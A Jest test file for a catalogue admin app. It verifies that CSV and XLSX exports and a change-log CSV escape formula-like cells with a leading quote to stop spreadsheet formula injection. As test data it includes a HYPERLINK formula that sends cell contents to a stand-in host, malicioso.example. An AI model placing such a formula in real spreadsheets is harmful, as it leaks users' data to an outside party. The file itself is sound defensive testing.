/** @jest-environment node */
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { GET as exportGet, POST as importPost } from '@/app/api/admin/catalogue/route';
import { GET as changesGet } from '@/app/api/admin/catalogue/changes/route';
import { resetEnvCache } from '@/lib/env';
import { getDb } from '@/server/db/client';
import { importCatalogueFile } from '@/server/import';
import { exportCatalogueRows, toCsv } from '@/server/import/export';
import { CATALOGUE_COLUMNS, type RawCatalogueRow } from '@/server/import/format';
import { readCsvText, readXlsxBuffer } from '@/server/import/read';
import { call, signedInAccount, type Session } from '../helpers/api';
import { setupTestDatabase } from '../helpers/db';

/**
 * Spreadsheet formula injection in the files staff download: the catalogue export (CSV and XLSX)
 * and the change log's CSV write a text cell that starts with `=`, `+`, `-` or `@` with a leading
 * `'` (lib/spreadsheet-cells), so opening the file runs nothing; the catalogue import removes
 * exactly that quote again, so the export still imports back to the same catalogue.
 */
setupTestDatabase();

const env = process.env as Record<string, string | undefined>;
let editor: Session & { userId: string };

/** Texts a spreadsheet would take for formulas, as staff or the ERP might type them. */
const HYPERLINK = '=HYPERLINK("http://malicioso.example/?d="&A1;"Ver preço")';
const TEXTS: Record<string, Partial<RawCatalogueRow>> = {
  'SN-001': { product_name: HYPERLINK },
  'HDT-16200': { description: '+351 22 000 0000 (apoio técnico)', model_name: "'=já começava com plica" },
  'HDT-20200': { description: '+351 22 000 0000 (apoio técnico)' },
  'VG-0500': { brand: '@Valgaia' },
  'VG-0750': { brand: '@Valgaia', model_name: '-Válvula 3/4" especial' },
};

/** A file as the admin page's upload sends it. */
function fileForm(content: string | Buffer, name: string): FormData {
  const form = new FormData();
  form.append('file', new File([typeof content === 'string' ? content : new Uint8Array(content)], name));
  return form;
}

/** The cells of a CSV exactly as a spreadsheet gets them (csv-parse alone, not the import's reader). */
function csvCells(text: string): Record<string, string>[] {
  return parse(text.replace(/^\uFEFF/, ''), { delimiter: ';', columns: true }) as Record<string, string>[];
}

beforeAll(async () => {
  env.FULL_FEATURE_HOSTS = 'localhost';
  resetEnvCache();
  expect((await importCatalogueFile(await getDb(), path.join(process.cwd(), 'tests/fixtures/catalogue-small.csv'))).ok).toBe(true);
  editor = await signedInAccount({ email: 'editora.formulas@example.pt', fullName: '@Eva Editora', role: 'editor', isAdmin: false, userType: 'particular' });
  // Staff import the texts (the change log records them with the editor as author).
  const rows = (await exportCatalogueRows(await getDb())).map((r) => ({ ...r, ...TEXTS[r.model_code] }));
  const imported = await call(importPost, 'POST', '/api/admin/catalogue', { session: editor, body: fileForm(toCsv(rows), 'catalogo.csv') });
  expect(imported.text).toMatch(/"success":true/);
}, 120_000);

afterAll(() => {
  delete env.FULL_FEATURE_HOSTS;
  resetEnvCache();
});

describe('the catalogue export', () => {
  it('writes formula-like texts of the CSV with a leading quote, numbers and package sizes as they are, and imports back to the same catalogue', async () => {
    const catalogue = await exportCatalogueRows(await getDb());
    expect(catalogue.find((r) => r.model_code === 'SN-001')!.product_name).toBe(HYPERLINK);

    const answer = await call(exportGet, 'GET', '/api/admin/catalogue', { session: editor });
    expect(answer.status).toBe(200);
    const cells = csvCells(answer.text);
    const byModel = (code: string) => cells.find((c) => c.model_code === code)!;
    expect(byModel('SN-001').product_name).toBe(`'${HYPERLINK}`);
    expect(byModel('HDT-16200').description).toBe("'+351 22 000 0000 (apoio técnico)");
    expect(byModel('HDT-16200').model_name).toBe("''=já começava com plica");
    expect(byModel('VG-0500').brand).toBe("'@Valgaia");
    expect(byModel('VG-0750').model_name).toBe(`'-Válvula 3/4" especial`);
    // No text cell of the file starts a formula.
    for (const row of cells) for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+@\t\r]|^-(?!$)/);
    // Numbers stay numbers, and "no package" stays "-".
    expect(byModel('HDT-16200')).toMatchObject({ price: '1,25', medium_package: '-' });

    // The import reads the texts back as they were: nothing to change.
    expect(readCsvText(answer.text).rows.map((r) => r.cells)).toEqual(catalogue);
    const again = await call<{ data: { summary: Record<string, Record<string, number>> } }>(importPost, 'POST', '/api/admin/catalogue', { session: editor, body: fileForm(answer.text, 'catalogo.csv') });
    expect(again.status).toBe(200);
    expect(again.body.data.summary).toMatchObject({ brands: { created: 0, updated: 0 }, products: { created: 0, updated: 0 }, models: { created: 0, updated: 0 } });
    expect(await exportCatalogueRows(await getDb())).toEqual(catalogue);
  });

  it('does the same in the XLSX workbook', async () => {
    const catalogue = await exportCatalogueRows(await getDb());
    const response = await exportGet(
      new Request('http://localhost/api/admin/catalogue?format=xlsx', { headers: { host: 'localhost', authorization: `Bearer ${editor.token}` } }),
      { params: Promise.resolve({}) },
    );
    expect(response.status).toBe(200);
    const bytes = Buffer.from(await response.arrayBuffer());
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const column = (name: string) => CATALOGUE_COLUMNS.indexOf(name as (typeof CATALOGUE_COLUMNS)[number]) + 1;
    const rowOf = (code: string) => {
      for (let n = 2; n <= sheet.rowCount; n++) if (sheet.getRow(n).getCell(column('model_code')).value === code) return sheet.getRow(n);
      throw new Error(code);
    };
    expect(rowOf('SN-001').getCell(column('product_name')).value).toBe(`'${HYPERLINK}`);
    expect(rowOf('VG-0500').getCell(column('brand')).value).toBe("'@Valgaia");
    expect(rowOf('HDT-16200').getCell(column('price')).value).toBe('1,25');

    const read = await readXlsxBuffer(bytes);
    expect(read.issues).toEqual([]);
    expect(read.rows.map((r) => r.cells)).toEqual(catalogue);
    const again = await call<{ data: { summary: Record<string, Record<string, number>> } }>(importPost, 'POST', '/api/admin/catalogue', { session: editor, body: fileForm(bytes, 'catalogo.xlsx') });
    expect(again.status).toBe(200);
    expect(again.body.data.summary).toMatchObject({ products: { created: 0, updated: 0 }, models: { created: 0, updated: 0 } });
    expect(await exportCatalogueRows(await getDb())).toEqual(catalogue);
  });

  it('keeps a negative number in a numeric column a number, both ways', () => {
    const row: RawCatalogueRow = { chapter_code: '40', family_code: '40-010', product_id: 'P1', product_name: '-20 °C', model_code: 'M1', price: '-1,5000', small_package: '-' };
    const csv = toCsv([row]);
    const [cells] = csvCells(csv);
    expect(cells).toMatchObject({ price: '-1,5000', small_package: '-', product_name: "'-20 °C" });
    expect(readCsvText(csv).rows[0]!.cells).toMatchObject({ price: '-1,5000', small_package: '-', product_name: '-20 °C' });
  });
});

describe('the change log CSV', () => {
  it('writes the author and the texts with a leading quote when a spreadsheet would take them for formulas', async () => {
    const answer = await call(changesGet, 'GET', '/api/admin/catalogue/changes?tipo=text', { session: editor });
    expect(answer.status).toBe(200);
    const cells = csvCells(answer.text);
    const name = cells.find((c) => c.produto === 'P100003' && c.campo === 'name')!;
    expect(name).toMatchObject({ autor: "'@Eva Editora", antes: 'Sanita suspensa rimless', depois: `'${HYPERLINK}`, nome: `'${HYPERLINK}` });
    const brand = cells.find((c) => c.produto === 'P100002' && c.campo === 'brand')!;
    expect(brand).toMatchObject({ marca: "'@Valgaia", antes: 'Valgaia', depois: "'@Valgaia" });
    expect(cells.find((c) => c.modelo === 'VG-0750' && c.campo === 'name')!.depois).toBe(`'-Válvula 3/4" especial`);
    for (const row of cells) for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+@\t\r]|^-(?!$)/);
  });
});
